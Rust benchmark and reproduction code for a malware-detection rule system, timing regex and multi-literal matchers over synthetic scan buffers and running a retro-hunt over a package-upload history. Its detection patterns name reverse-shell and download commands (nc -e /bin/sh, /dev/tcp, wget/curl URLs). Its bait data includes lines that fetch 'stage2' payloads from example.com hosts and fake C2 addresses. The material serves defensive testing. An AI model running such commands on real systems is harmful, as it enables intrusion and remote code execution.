                // Mostly unpadded: deep near-misses for `b64-padded`.
                if rng.next_u64().is_multiple_of(4) {
                    out.extend_from_slice(b"=='\n");
                } else {
                    out.extend_from_slice(b"'\n");
                }
            }
            1 => {
                let a = rng.next_u64() % 256;
                let b = rng.next_u64() % 256;
                out.extend_from_slice(format!("c2 = '10.{a}.{b}.7:8080'\n").as_bytes());
            }
            2 => {
                let h = rng.next_u64() % 100_000;
                out.extend_from_slice(
                    format!("requests.get('http://h{h}.example.com/stage2.bin')\n").as_bytes(),
                );
            }
            3 => {
                let v = rng.next_u64() % 1000;
                out.extend_from_slice(format!("os.system('id {v}')  # medieval\n").as_bytes());
            }
            4 => {
                let v = rng.next_u64() % 1000;
                out.extend_from_slice(format!("x{v} = eval(str({v} + 1))\n").as_bytes());
            }
            _ => {
                // Digit-dense filler: bait for the IPv4 pattern's \d probes.
                let a = rng.next_u64();
                let b = rng.next_u64();
                out.extend_from_slice(format!("checksum_{a} = {b}1234567890\n").as_bytes());
            }
        }
        kind += 1;
    }
    out.truncate(len);
    out
}

/// Runs every pattern over a fresh `len`-byte heavy buffer with both
/// engines, asserting identical matches and timing each.
///
/// # Panics
///
/// Panics if the engines disagree on any match — the bench doubles as an
/// end-to-end equivalence check.
pub fn compare(len: usize, seed: u64) -> Vec<RegexScanRow> {
    let data = heavy_buffer(len, seed);
    PATTERNS
        .iter()
        .map(|(name, pattern)| {
            let pike = Regex::new(pattern).expect("bench pattern compiles");
            let reference = ReferenceRegex::from_regex(&pike);
            let t = Instant::now();
            let pike_matches = pike.find_all(&data);
            let pike_ms = t.elapsed().as_secs_f64() * 1e3;
            let t = Instant::now();
            let reference_matches = reference.find_all(&data);
            let reference_ms = t.elapsed().as_secs_f64() * 1e3;
            assert_eq!(
                pike_matches, reference_matches,
                "engine divergence on pattern {name}"
            );
            RegexScanRow {
                name,
                matches: pike_matches.len(),
                pike_ms,
                reference_ms,
            }
        })
        .collect()
}

/// Renders the comparison as an aligned text table.
pub fn render(rows: &[RegexScanRow], len: usize) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "Regex scan: single-pass Pike VM vs seed engine ({} KiB regex-heavy buffer)\n",
        len / 1024
    ));
    out.push_str(&format!(
        "{:<14} {:>9} {:>12} {:>12} {:>9}\n",
        "pattern", "matches", "pike (ms)", "seed (ms)", "speedup"
    ));
    for r in rows {
        out.push_str(&format!(
            "{:<14} {:>9} {:>12.2} {:>12.2} {:>8.1}x\n",
            r.name,
            r.matches,
            r.pike_ms,
            r.reference_ms,
            r.speedup()
        ));
    }
    let total_pike: f64 = rows.iter().map(|r| r.pike_ms).sum();
    let total_ref: f64 = rows.iter().map(|r| r.reference_ms).sum();
    out.push_str(&format!(
        "{:<14} {:>9} {:>12.2} {:>12.2} {:>8.1}x\n",
        "TOTAL",
        rows.iter().map(|r| r.matches).sum::<usize>(),
        total_pike,
        total_ref,
        if total_pike > 0.0 {
            total_ref / total_pike
        } else {
            f64::INFINITY
        }
    ));
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    #[test]
    fn heavy_buffer_is_deterministic_and_sized() {
        let a = heavy_buffer(4096, 42);
        let b = heavy_buffer(4096, 42);
        assert_eq!(a, b);
        assert_eq!(a.len(), 4096);
        assert_ne!(a, heavy_buffer(4096, 43));
    }

    #[test]
    fn engines_agree_on_heavy_buffer() {
        // `compare` asserts equivalence internally; a tiny buffer keeps
        // the quadratic engine affordable in debug builds.
        let rows = compare(16 << 10, 7);
        assert_eq!(rows.len(), PATTERNS.len());
    }

    /// CI throughput smoke (release mode): the 1 MiB regex-heavy scan
    /// must stay far under a generous wall-clock ceiling — the quadratic
    /// seed engine blows it by an order of magnitude, so its return
    /// cannot go unnoticed.
    #[test]
    fn regex_throughput_smoke() {
        let debug = cfg!(debug_assertions);
        let len = if debug { 64 << 10 } else { 1 << 20 };
        let data = heavy_buffer(len, 42);
        let start = Instant::now();
        for (name, pattern) in PATTERNS {
            let re = Regex::new(pattern).expect("pattern compiles");
            let found = re.find_all(&data);
            assert!(!found.is_empty(), "pattern {name} must match the buffer");
        }
        let elapsed = start.elapsed();
        if !debug {
            assert!(
                elapsed < Duration::from_secs(5),
                "1 MiB regex-heavy scan took {elapsed:?}: quadratic regression?"
            );
        }
    }
}

//! Regenerates every table and figure of the paper's evaluation section.
//!
//! Usage: `repro [--scale tiny|small|paper] [--only <experiment>]`

use corpus::Dataset;
use eval::experiments::{self, ExperimentContext};
use eval::report;
use llm_sim::RuleFormat;
use rulellm::PipelineConfig;
use rulellm_bench::{scale_config, EXPERIMENTS};

fn main() {
    let mut scale = "small".to_owned();
    let mut only: Option<String> = None;
    let mut args = std::env::args().skip(1);
    while let Some(arg) = args.next() {
        match arg.as_str() {
            "--scale" => scale = args.next().unwrap_or_else(|| usage("missing scale")),
            "--only" => only = Some(args.next().unwrap_or_else(|| usage("missing experiment"))),
            "--help" | "-h" => usage(""),
            other => usage(&format!("unknown argument {other}")),
        }
    }
    let config = scale_config(&scale).unwrap_or_else(|bad| usage(&format!("unknown scale {bad}")));
    let want = |name: &str| only.as_deref().is_none_or(|o| o == name);
    if let Some(o) = &only {
        if let Err(msg) = rulellm_bench::validate_experiment(o) {
            usage(&msg);
        }
    }

    if want("regexbench") {
        eprintln!("[repro] regex engine: quadratic seed vs single-pass Pike VM (ISSUE 3) ...");
        let len = 1 << 20;
        let rows = rulellm_bench::regex_scan::compare(len, 42);
        println!("{}", rulellm_bench::regex_scan::render(&rows, len));
        eprintln!("[repro] tiered matching: Teddy + lazy DFA vs AC + Pike VM (ISSUE 9) ...");
        let stats = rulellm_bench::regexbench::compare(len, 42);
        println!("{}", rulellm_bench::regexbench::render(&stats));
        let doc = rulellm_bench::regexbench::to_json(&stats);
        match std::fs::write("BENCH_regex.json", doc.to_string_pretty()) {
            Ok(()) => eprintln!("[repro] wrote BENCH_regex.json"),
            Err(e) => eprintln!("[repro] could not write BENCH_regex.json: {e}"),
        }
        if only.as_deref() == Some("regexbench") {
            return;
        }
    }

    if want("semgrepbench") {
        eprintln!(
            "[repro] semgrep matching: reparse-per-call seed vs compiled single pass (ISSUE 4) ..."
        );
        let stats = rulellm_bench::semgrep_scan::compare(100, 150, 40, 42);
        println!("{}", rulellm_bench::semgrep_scan::render(&stats));
        if only.as_deref() == Some("semgrepbench") {
            return;
        }
    }

    if want("scanhubbench") {
        eprintln!(
            "[repro] scanhub artifact cache: cold vs warm on a version-bump stream (ISSUE 5) ..."
        );
        let stats = rulellm_bench::scanhub_bench::compare(50, 20, 42);
        println!("{}", rulellm_bench::scanhub_bench::render(&stats));
        println!("{}", stats.warm_stats);
        let mut doc = rulellm_bench::scanhub_bench::to_json(&stats);
        eprintln!(
            "[repro] incremental artifacts: full reparse vs diff-and-splice on one-line bumps (ISSUE 10) ..."
        );
        let oneline = rulellm_bench::scanhub_bench::compare_oneline(12, 360, 8);
        println!("{}", rulellm_bench::scanhub_bench::render_oneline(&oneline));
        doc.insert(
            "version_bump_oneline",
            rulellm_bench::scanhub_bench::to_json_oneline(&oneline),
        );
        eprintln!("[repro] retro-hunt: new rules vs scanned-digest history (ISSUE 7) ...");
        let history = if cfg!(debug_assertions) { 600 } else { 10_000 };
        let retro = rulellm_bench::retrohunt_bench::compare(history, 10, 42);
        println!("{}", rulellm_bench::retrohunt_bench::render(&retro));
        doc.insert(
            "retro_hunt",
            rulellm_bench::retrohunt_bench::to_json(&retro),
        );
        match std::fs::write("BENCH_scanhub.json", doc.to_string_pretty()) {
            Ok(()) => eprintln!("[repro] wrote BENCH_scanhub.json"),
            Err(e) => eprintln!("[repro] could not write BENCH_scanhub.json: {e}"),
        }
        if only.as_deref() == Some("scanhubbench") {
            return;
        }
    }

    eprintln!("[repro] generating corpus at scale '{scale}' ...");
    let ctx = ExperimentContext::new(&config);

    if want("table6") {
        println!("{}", report::render_dataset_stats(&ctx.dataset.stats()));
    }

    // The full-RuleLLM run feeds Tables VIII/XI/XII and Figures 5-11.
    let needs_pipeline = [
        "table8", "table11", "table12", "fig5", "fig6", "fig7", "fig8", "fig9", "fig10", "fig11",
    ]
    .iter()
    .any(|e| want(e));
    if needs_pipeline {
        eprintln!("[repro] running RuleLLM pipeline + baselines ...");
        let output = experiments::run_rulellm(&ctx.dataset, PipelineConfig::full());
        let (rows, matches) = experiments::table8(&ctx);
        if want("table8") {
            println!(
                "{}",
                report::render_metrics_table("Table VIII: main comparison", &rows)
            );
        }
        if want("table11") {
            println!(
                "{}",
                report::render_rule_counts(&experiments::table11(&output))
            );
        }
        if want("fig5") {
            let curve = experiments::matched_curve(&matches, &ctx.targets, RuleFormat::Yara, 4);
            println!(
                "{}",
                report::render_matched_curve("Fig 5: YARA matched-rule curve", &curve)
            );
        }
        if want("fig6") {
            let curve = experiments::matched_curve(&matches, &ctx.targets, RuleFormat::Semgrep, 12);
            println!(
                "{}",
                report::render_matched_curve("Fig 6: Semgrep matched-rule curve", &curve)
            );
        }
        let (yara, semgrep) = experiments::compile_output(&output);
        let yara_names: Vec<String> = yara.rules.iter().map(|r| r.rule.name.clone()).collect();
        let semgrep_ids: Vec<String> = semgrep.rules.iter().map(|r| r.id.clone()).collect();
        let yara_stats =
            experiments::per_rule_stats(&yara_names, &matches, &ctx.targets, RuleFormat::Yara);
        let semgrep_stats =
            experiments::per_rule_stats(&semgrep_ids, &matches, &ctx.targets, RuleFormat::Semgrep);
        if want("fig7") {
            let (bins, unmatched) = experiments::precision_histogram(&yara_stats);
            println!(
                "{}",
                report::render_precision_histogram(
                    "Fig 7: YARA per-rule precision",
                    &bins,
                    unmatched
                )
            );
        }
        if want("fig8") {
            let (bins, unmatched) = experiments::precision_histogram(&semgrep_stats);
            println!(
                "{}",
                report::render_precision_histogram(
                    "Fig 8: Semgrep per-rule precision",
                    &bins,
                    unmatched
                )
            );
        }
        if want("fig9") {
            let (counts, cdf) = experiments::coverage_cdf(&yara_stats);
            println!(
                "{}",
                report::render_coverage_cdf("Fig 9: YARA rule coverage CDF", &counts, &cdf)
            );
            println!("{}", report::render_top_rules(&yara_stats, 5));
        }
        if want("fig10") {
            let (counts, cdf) = experiments::coverage_cdf(&semgrep_stats);
            println!(
                "{}",
                report::render_coverage_cdf("Fig 10: Semgrep rule coverage CDF", &counts, &cdf)
            );
        }
        if want("table12") {
            println!(
                "{}",
                report::render_taxonomy(&experiments::table12(&output))
            );
        }
        if want("fig11") {
            println!("{}", report::render_overlap(&experiments::fig11(&output)));
        }
    }

    if want("table9") {
        eprintln!("[repro] LLM sweep (Table IX) ...");
        let rows = experiments::table9(&ctx);
        println!(
            "{}",
            report::render_metrics_table("Table IX: rules by LLM", &rows)
        );
    }

    if want("table10") {
        eprintln!("[repro] ablation (Table X) ...");
        let rows = experiments::table10(&ctx);
        println!(
            "{}",
            report::render_metrics_table("Table X: ablation", &rows)
        );
    }

    if want("rag") {
        eprintln!("[repro] RAG extension ablation (§VI) ...");
        let rows = experiments::rag_ablation(&ctx);
        println!(
            "{}",
            report::render_metrics_table("RAG extension (§VI)", &rows)
        );
    }

    if want("robustness") {
        eprintln!("[repro] robustness under adversarial mutation (ISSUE 2) ...");
        let report = eval::robustness::robustness(&ctx, 42);
        println!("{}", report::render_robustness(&report));
        eprintln!("[repro] decoded-layer recovery on string-encoded mutants (ISSUE 5) ...");
        let recovery = eval::robustness::layered_recovery(&ctx, 42);
        println!("{}", report::render_layered_recovery(&recovery));
        eprintln!("[repro] behavior-engine recall under evasion (ISSUE 8) ...");
        let taint = eval::robustness::taint_robustness(&ctx, 42);
        println!("{}", report::render_taint_robustness(&taint));
    }

    if want("variants") {
        eprintln!("[repro] variant detection (§V-B) ...");
        // The variant experiment needs several variants per family; at
        // tiny scale regenerate with more uniques.
        let dataset = if ctx.dataset.unique_malware().len() < 90 {
            Dataset::generate(&corpus::CorpusConfig {
                seed: 42,
                malware_unique: 90,
                malware_total: 100,
                legit_total: 4,
            })
        } else {
            ctx.dataset.clone()
        };
        let vr = experiments::variant_detection(&dataset, 42);
        println!("{}", report::render_variants(&vr));
    }
}

fn usage(problem: &str) -> ! {
    if !problem.is_empty() {
        eprintln!("error: {problem}");
    }
    eprintln!("usage: repro [--scale tiny|small|paper] [--only <experiment>]");
    eprintln!("experiments: {EXPERIMENTS:?}");
    std::process::exit(if problem.is_empty() { 0 } else { 2 });
}

//! Tiered-matching bench: per-pattern-class speedup of the Teddy + lazy
//! DFA pipeline over the plain Aho-Corasick + Pike VM path (ISSUE 9).
//!
//! One shared buffer carries a handful of *early* true matches for every
//! class followed by a long near-miss tail — the shape registry scans
//! actually have (verdicts decided early, most bytes are misses). Each
//! class is timed twice over identical input: the public tiered entry
//! points (lazy-DFA gate, Teddy prefilter) against the pure Pike VM /
//! Aho-Corasick baselines, asserting byte-identical matches on every
//! run, with the seed's [`ReferenceRegex`] as a second oracle. The
//! headline number is the geometric mean of the per-class speedups.

use std::time::Instant;

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use textmatch::{AhoCorasick, MatchKind, MultiLiteral, ReferenceRegex, Regex};

/// The regex pattern classes the tiered pipeline is judged on. Each
/// stresses a different tier-selection path:
///
/// * `literal-prefix` — accelerated identically by both engines up to
///   the prefix, then the DFA wins the post-prefix verification.
/// * `nocase` — case-folded byte classes defeat single-byte memchr
///   tricks; the DFA collapses them into class transitions.
/// * `alternation-heavy` — many branches keep the Pike VM's thread list
///   wide; the DFA determinizes them into one state walk.
/// * `unanchored-suffix` — no usable prefix literal and a match that
///   can start at every word byte: the Pike VM's worst case.
pub const REGEX_CLASSES: &[(&str, &str, bool)] = &[
    ("literal-prefix", r"os\.system\([^)]{0,40}\)", false),
    (
        "nocase",
        r"createremotethread|virtualallocex|writeprocessmemory|setwindowshookex",
        true,
    ),
    (
        "alternation-heavy",
        r"(wget|curl) -[a-zA-Z]{1,4} https?://[a-z0-9./-]{8,60}|nc -e /bin/(sh|bash)|/dev/tcp/[0-9.]{7,15}",
        false,
    ),
    (
        "unanchored-suffix",
        r"[A-Za-z0-9_\-]{4,24}\.(exe|dll|scr|bat)",
        false,
    ),
];

/// The IOC literal set for the `multi-literal` row: Teddy-eligible
/// (every pattern ≥ 2 bytes, ≤ 128 patterns) and scanned case-insensitively
/// like the scanner and prefilter tiers do.
pub const MULTI_LITERALS: &[&str] = &[
    "os.system",
    "subprocess.popen",
    "eval(",
    "exec(",
    "base64.b64decode",
    "socket.socket",
    "requests.post",
    "urllib.request",
    "ctypes.windll",
    "shutil.rmtree",
    "paramiko.sshclient",
    "keylogger",
    "exfiltrate",
    "ransom_note",
    "c2_beacon",
    "dropper_stage",
];

/// One class's measurement on the shared buffer.
#[derive(Debug, Clone)]
pub struct ClassRow {
    /// Class label (`REGEX_CLASSES` name or `"multi-literal"`).
    pub class: &'static str,
    /// Matches found (identical for both paths by assertion).
    pub matches: usize,
    /// Wall-clock milliseconds for the baseline (Pike VM / Aho-Corasick).
    pub baseline_ms: f64,
    /// Wall-clock milliseconds for the tiered path (lazy DFA / Teddy).
    pub tiered_ms: f64,
}

impl ClassRow {
    /// baseline / tiered; > 1 means the tiered pipeline is faster.
    pub fn speedup(&self) -> f64 {
        if self.tiered_ms > 0.0 {
            self.baseline_ms / self.tiered_ms
        } else {
            f64::INFINITY
        }
    }
}

/// The full comparison over one buffer.
#[derive(Debug, Clone)]
pub struct RegexBenchStats {
    /// Buffer length in bytes.
    pub len: usize,
    /// Per-class rows, [`REGEX_CLASSES`] order then `multi-literal`.
    pub rows: Vec<ClassRow>,
}

impl RegexBenchStats {
    /// Geometric mean of the per-class speedups — the PR's headline
    /// number, robust to one class dominating the sum.
    pub fn geomean_speedup(&self) -> f64 {
        if self.rows.is_empty() {
            return 1.0;
        }
        let log_sum: f64 = self.rows.iter().map(|r| r.speedup().ln()).sum();
        (log_sum / self.rows.len() as f64).exp()
    }
}

/// A deterministic scan buffer of (at least) `len` bytes: a short head
/// planting a few true matches for every class, then a near-miss tail —
/// word-dense filler, case-mangled API names, shell-ish fragments and
/// dotted paths that bait every class's first bytes without ever
/// completing a match.
pub fn class_buffer(len: usize, seed: u64) -> Vec<u8> {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut out = Vec::with_capacity(len + 256);
    // Early true matches, a few per class, all inside the first ~2 KiB.
    for i in 0..4u64 {
        out.extend_from_slice(format!("os.system('id {i}')\n").as_bytes());
        out.extend_from_slice(b"h = CreateRemoteThread(proc)\n");
        out.extend_from_slice(
            format!("run('wget -qO https://host{i}.example.com/x')\n").as_bytes(),
        );
        out.extend_from_slice(format!("drop = 'stage{i}_payload.exe'\n").as_bytes());
        out.extend_from_slice(b"import base64; base64.b64decode(s)\n");
        out.extend_from_slice(b"beacon = 'c2_beacon'\n");
    }
    // Near-miss tail: every class's bait, nothing ever matches.
    while out.len() < len {
        match rng.next_u64() % 5 {
            0 => {
                // Literal-prefix bait: the prefix appears, the close
                // paren never does within the bounded repeat.
                let v = rng.next_u64() % 1000;
                out.extend_from_slice(
                    format!("log('os.system{v} left unquoted and unclosed forever\n").as_bytes(),
                );
            }
            1 => {
                // Nocase bait: case-mangled API stems with a digit
                // spliced in before the suffix completes.
                let stems = ["CreateRemoteThr3ad", "virtualAll0cEx", "WriteProcessMem0ry"];
                let s = stems[(rng.next_u64() % 3) as usize];
                out.extend_from_slice(format!("sym_{s} = resolve('{s}')\n").as_bytes());
            }
            2 => {
                // Alternation bait: the branch heads appear ("wget ",
                // "nc -", "/dev/") but every continuation breaks off.
                let v = rng.next_u64() % 100;
                out.extend_from_slice(
                    format!("note = 'wget mirror {v} nc -z /dev/null curl .'\n").as_bytes(),
                );
            }
            3 => {
                // Suffix bait: long identifier words that end in benign
                // extensions — the Pike VM keeps a thread alive at every
                // byte of every word.
                let a = rng.next_u64();
                out.extend_from_slice(
                    format!("module_load_{a:016x}_resource_pack.json\n").as_bytes(),
                );
            }
            _ => {
                // Multi-literal bait: fragments sharing 2-3 byte
                // prefixes with the IOC set so Teddy's verification
                // actually runs.
                let v = rng.next_u64() % 1000;
                out.extend_from_slice(
                    format!("osmosis_{v} = subprocess_free(evaluate, executor)\n").as_bytes(),
                );
            }
        }
    }
    out.truncate(len);
    out
}

/// Runs every class over a fresh `len`-byte buffer, timing the tiered
/// path against the baseline and asserting byte-identical matches.
///
/// # Panics
///
/// Panics if any pair of engines disagrees — the bench doubles as an
/// end-to-end differential check (Pike VM on the full buffer, the
/// seed's `ReferenceRegex` on a prefix sized to keep its
/// restart-per-offset cost affordable).
pub fn compare(len: usize, seed: u64) -> RegexBenchStats {
    let data = class_buffer(len, seed);
    let oracle_len = len.min(32 << 10);
    let mut rows = Vec::new();
    for (class, pattern, nocase) in REGEX_CLASSES {
        let re = if *nocase {
            Regex::new_nocase(pattern)
        } else {
            Regex::new(pattern)
        }
        .expect("bench pattern compiles");
        let t = Instant::now();
        let tiered = re.find_all(&data);
        let tiered_ms = t.elapsed().as_secs_f64() * 1e3;
        let t = Instant::now();
        let baseline = re.find_all_pike(&data);
        let baseline_ms = t.elapsed().as_secs_f64() * 1e3;
        assert_eq!(tiered, baseline, "tiered != Pike VM on class {class}");
        let reference = ReferenceRegex::from_regex(&re);
        assert_eq!(
            re.find_all(&data[..oracle_len]),
            reference.find_all(&data[..oracle_len]),
            "tiered != ReferenceRegex on class {class}"
        );
        assert!(!tiered.is_empty(), "class {class} must match the buffer");
        rows.push(ClassRow {
            class,
            matches: tiered.len(),
            baseline_ms,
            tiered_ms,
        });
    }
    // Multi-literal: Teddy tier vs the Aho-Corasick baseline.
    let ml = MultiLiteral::new(MULTI_LITERALS, MatchKind::CaseInsensitive);
    assert!(ml.uses_teddy(), "IOC literal set must be Teddy-eligible");
    let ac = AhoCorasick::new(MULTI_LITERALS, MatchKind::CaseInsensitive);
    let t = Instant::now();
    let tiered = ml.find_all(&data);
    let tiered_ms = t.elapsed().as_secs_f64() * 1e3;
    let t = Instant::now();
    let baseline = ac.find_all(&data);
    let baseline_ms = t.elapsed().as_secs_f64() * 1e3;
    assert_eq!(tiered, baseline, "Teddy != Aho-Corasick on the IOC set");
    assert!(!tiered.is_empty(), "the IOC set must match the buffer");
    rows.push(ClassRow {
        class: "multi-literal",
        matches: tiered.len(),
        baseline_ms,
        tiered_ms,
    });
    RegexBenchStats { len, rows }
}

/// Renders the comparison as an aligned text table.
pub fn render(stats: &RegexBenchStats) -> String {
    let mut out = String::new();
    out.push_str(&format!(
        "Tiered matching: Teddy + lazy DFA vs AC + Pike VM ({} KiB scan buffer)\n",
        stats.len / 1024
    ));
    out.push_str(&format!(
        "{:<18} {:>9} {:>13} {:>12} {:>9}\n",
        "class", "matches", "baseline (ms)", "tiered (ms)", "speedup"
    ));
    for r in &stats.rows {
        out.push_str(&format!(
            "{:<18} {:>9} {:>13.2} {:>12.2} {:>8.1}x\n",
            r.class,
            r.matches,
            r.baseline_ms,
            r.tiered_ms,
            r.speedup()
        ));
    }
    out.push_str(&format!(
        "{:<18} {:>9} {:>13} {:>12} {:>8.1}x\n",
        "GEOMEAN",
        "",
        "",
        "",
        stats.geomean_speedup()
    ));
    out
}

/// Serializes the stats (plus the engine counters the run produced) for
/// the committed `BENCH_regex.json` artifact.
pub fn to_json(stats: &RegexBenchStats) -> jsonmini::Value {
    let mut doc = jsonmini::Value::object();
    doc.insert("bench", "regex_tiered_matching");
    doc.insert("buffer_len", stats.len);
    doc.insert("geomean_speedup", stats.geomean_speedup());
    let mut classes = Vec::new();
    for r in &stats.rows {
        let mut row = jsonmini::Value::object();
        row.insert("class", r.class);
        row.insert("matches", r.matches);
        row.insert("baseline_ms", r.baseline_ms);
        row.insert("tiered_ms", r.tiered_ms);
        row.insert("speedup", r.speedup());
        classes.push(row);
    }
    doc.insert("classes", classes);
    let eng = textmatch::engine_counters();
    let mut counters = jsonmini::Value::object();
    counters.insert("teddy_scans", eng.teddy_scans as usize);
    counters.insert("teddy_bytes_scanned", eng.teddy_bytes_scanned as usize);
    counters.insert(
        "teddy_chunks_classified",
        eng.teddy_chunks_classified as usize,
    );
    counters.insert("teddy_chunks_verified", eng.teddy_chunks_verified as usize);
    counters.insert("ac_fallback_scans", eng.ac_fallback_scans as usize);
    counters.insert("dfa_scans", eng.dfa_scans as usize);
    counters.insert("dfa_states_built", eng.dfa_states_built as usize);
    counters.insert("dfa_cache_flushes", eng.dfa_cache_flushes as usize);
    counters.insert("pikevm_fallbacks", eng.pikevm_fallbacks as usize);
    doc.insert("engine_counters", counters);
    doc
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn class_buffer_is_deterministic_and_sized() {
        let a = class_buffer(8192, 42);
        let b = class_buffer(8192, 42);
        assert_eq!(a, b);
        assert_eq!(a.len(), 8192);
        assert_ne!(a, class_buffer(8192, 43));
    }

    #[test]
    fn every_class_matches_and_engines_agree() {
        // `compare` asserts tiered == Pike == Reference internally; a
        // small buffer keeps debug builds affordable.
        let stats = compare(32 << 10, 7);
        assert_eq!(stats.rows.len(), REGEX_CLASSES.len() + 1);
        for row in &stats.rows {
            assert!(row.matches > 0, "class {} found nothing", row.class);
        }
        assert!(stats.geomean_speedup().is_finite());
    }

    #[test]
    fn json_document_carries_classes_and_counters() {
        let stats = compare(16 << 10, 3);
        let doc = to_json(&stats);
        let classes = doc
            .get("classes")
            .and_then(|c| c.as_array())
            .expect("array");
        assert_eq!(classes.len(), stats.rows.len());
        let counters = doc.get("engine_counters").expect("counters");
        let teddy = counters
            .get("teddy_scans")
            .and_then(jsonmini::Value::as_f64)
            .expect("teddy_scans");
        assert!(teddy > 0.0, "the bench itself must exercise the Teddy tier");
    }

    /// The PR's acceptance floor: ≥ 2x geometric-mean speedup over the
    /// AC + Pike VM path on the pattern-class suite. Release-only —
    /// debug timings measure the optimizer, not the algorithms.
    #[test]
    fn tiered_geomean_speedup_floor() {
        if cfg!(debug_assertions) {
            return;
        }
        let stats = compare(1 << 20, 42);
        let geomean = stats.geomean_speedup();
        assert!(
            geomean >= 2.0,
            "tiered pipeline geomean speedup {geomean:.2}x fell below the 2x floor:\n{}",
            render(&stats)
        );
    }
}

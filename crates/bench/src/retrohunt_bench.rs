//! Retro-hunt benchmark: N new rules against a large scanned history
//! (ISSUE 7).
//!
//! The operational question behind the inverted atom→digest index: when
//! a rule refresh lands, how fast can the service answer "which of the
//! packages we already scanned would the new rules flag?" — without
//! rescanning the world. This module builds a deterministic history of
//! single-file uploads named after popular registry packages, ingests
//! it through a live hub (populating the artifact cache and the retro
//! index as a side effect of normal scanning), then deploys a bundle
//! with `new_rules` additional YARA rules whose IOC markers were
//! planted in a handful of history files (one in three only inside a
//! base64-encoded literal, so layer postings are exercised). The timed
//! comparison is [`ScanHub::retro_hunt`] (index-assisted) against
//! [`ScanHub::retro_rescan`] (exhaustive oracle), and the run asserts
//! the two produce identical per-rule hit sets — the speedup table
//! doubles as the differential check.

use std::time::Instant;

use oss_registry::POPULAR_PACKAGES;
use scanhub::{HubConfig, ScanHub, ScanRequest};
use semgrep_engine::CompiledSemgrepRules;
use yara_engine::CompiledRules;

use crate::semgrep_scan;

/// The live YARA bundle source: same shape as
/// [`crate::scanhub_bench::yara_ruleset`], but kept as text so the
/// deployment candidate can be the identical bundle plus new rules.
fn yara_source(n: usize) -> String {
    const ATOMS: &[&str] = &[
        "os.system",
        "subprocess.popen",
        "socket.connect",
        "requests.post",
        "base64.b64decode",
        "pickle.loads",
        "urllib.urlopen",
        "shutil.rmtree",
        "ctypes.windll",
        "exfil",
    ];
    let mut out = String::new();
    for i in 0..n {
        let a = ATOMS[i % ATOMS.len()];
        let b = ATOMS[(i + 3) % ATOMS.len()];
        match i % 4 {
            0 => out.push_str(&format!(
                "rule live_atom_{i} {{ strings: $a = \"{a}\" condition: $a }}\n"
            )),
            1 => out.push_str(&format!(
                "rule live_any_{i} {{ strings: $a = \"{a}\" $b = \"{b}\" condition: any of them }}\n"
            )),
            2 => out.push_str(&format!(
                "rule live_count_{i} {{ strings: $a = \"import\" condition: #a >= {} }}\n",
                2 + i % 4
            )),
            _ => out.push_str(&format!(
                "rule live_all_{i} {{ strings: $a = \"{a}\" $b = \"{b}\" condition: all of them }}\n"
            )),
        }
    }
    out
}

/// The marker the `i`-th new rule hunts for.
fn marker(i: usize, seed: u64) -> String {
    format!("retro_ioc_{i}_{seed:x}")
}

/// Source for `n` new rules, each keyed to its planted marker.
fn new_rules_source(n: usize, seed: u64) -> String {
    (0..n)
        .map(|i| {
            format!(
                "rule retro_new_{i} {{ strings: $a = \"{}\" condition: $a }}\n",
                marker(i, seed)
            )
        })
        .collect()
}

fn compile(src: &str) -> CompiledRules {
    yara_engine::compile(src).expect("bench yara bundle compiles")
}

fn semgrep_bundle() -> CompiledSemgrepRules {
    semgrep_scan::ruleset(20)
}

/// One retro-hunt measurement.
#[derive(Debug, Clone)]
pub struct RetroBenchStats {
    /// History digests resident in the artifact cache and retro index.
    pub history: usize,
    /// New rules in the deployed delta.
    pub new_rules: usize,
    /// Distinct indexed terms (folded content 3-grams).
    pub index_atoms: u64,
    /// `deploy_rules` latency: seeded index rebuild + diff, ms.
    pub deploy_ms: f64,
    /// Index-assisted `retro_hunt` wall clock, ms.
    pub hunt_ms: f64,
    /// Exhaustive `retro_rescan` wall clock, ms.
    pub rescan_ms: f64,
    /// Candidate (rule, digest) pairs the index nominated.
    pub candidates: u64,
    /// Digests the hunt actually confirm-scanned.
    pub confirm_scans: u64,
    /// Total per-rule hits (identical between hunt and rescan).
    pub hits: usize,
}

impl RetroBenchStats {
    /// Exhaustive-rescan wall over index-assisted wall.
    pub fn speedup(&self) -> f64 {
        if self.hunt_ms <= 0.0 {
            0.0
        } else {
            self.rescan_ms / self.hunt_ms
        }
    }
}

/// Builds the history, deploys `new_rules` new YARA rules, and times
/// the index-assisted hunt against the exhaustive rescan.
///
/// # Panics
///
/// Panics when the hunt and the rescan disagree on any per-rule hit
/// set or per-digest verdict — the comparison *is* the equivalence
/// check — or (release builds only) when the speedup falls below 10x.
pub fn compare(history: usize, new_rules: usize, seed: u64) -> RetroBenchStats {
    let hub = ScanHub::new(
        Some(compile(&yara_source(40))),
        Some(semgrep_bundle()),
        HubConfig {
            cache_capacity: 0,
            artifact_cache_capacity: history * 2,
            max_decode_depth: 2,
            ..HubConfig::default()
        },
    );

    // History: one single-file upload per digest, named after popular
    // registry packages, salted for digest uniqueness. Every new rule's
    // marker is planted in a few files; every third marker exists only
    // inside a base64-encoded literal (layer-only evidence).
    let mut bodies = semgrep_scan::sources(history, 12, seed);
    for (i, body) in bodies.iter_mut().enumerate() {
        body.push_str(&format!("# upload {i}\n"));
    }
    for i in 0..new_rules {
        for k in 0..3 {
            let target = (i * 977 + k * 3203) % history;
            if i % 3 == 0 {
                let blob = digest::base64::encode(
                    format!("{} staged for exfiltration now", marker(i, seed)).as_bytes(),
                );
                bodies[target].push_str(&format!("blob_{i}_{k} = '{blob}'\n"));
            } else {
                bodies[target].push_str(&format!("c2_{i}_{k} = '{}'\n", marker(i, seed)));
            }
        }
    }
    let requests = bodies.into_iter().enumerate().map(|(i, body)| {
        let pkg = POPULAR_PACKAGES[i % POPULAR_PACKAGES.len()];
        ScanRequest::from_source(format!("{pkg}/upload_{i}.py"), body)
    });
    let _ = hub.scan_ordered(requests);
    let (index_atoms, digests) = hub.retro_index_size();
    assert_eq!(digests as usize, history, "history must be fully resident");

    let start = Instant::now();
    let deployment = hub.deploy_rules(
        Some(compile(&format!(
            "{}{}",
            yara_source(40),
            new_rules_source(new_rules, seed)
        ))),
        Some(semgrep_bundle()),
    );
    let deploy_ms = start.elapsed().as_secs_f64() * 1e3;
    assert_eq!(
        deployment.delta.changed.len(),
        new_rules,
        "only the new rules may appear in the delta"
    );

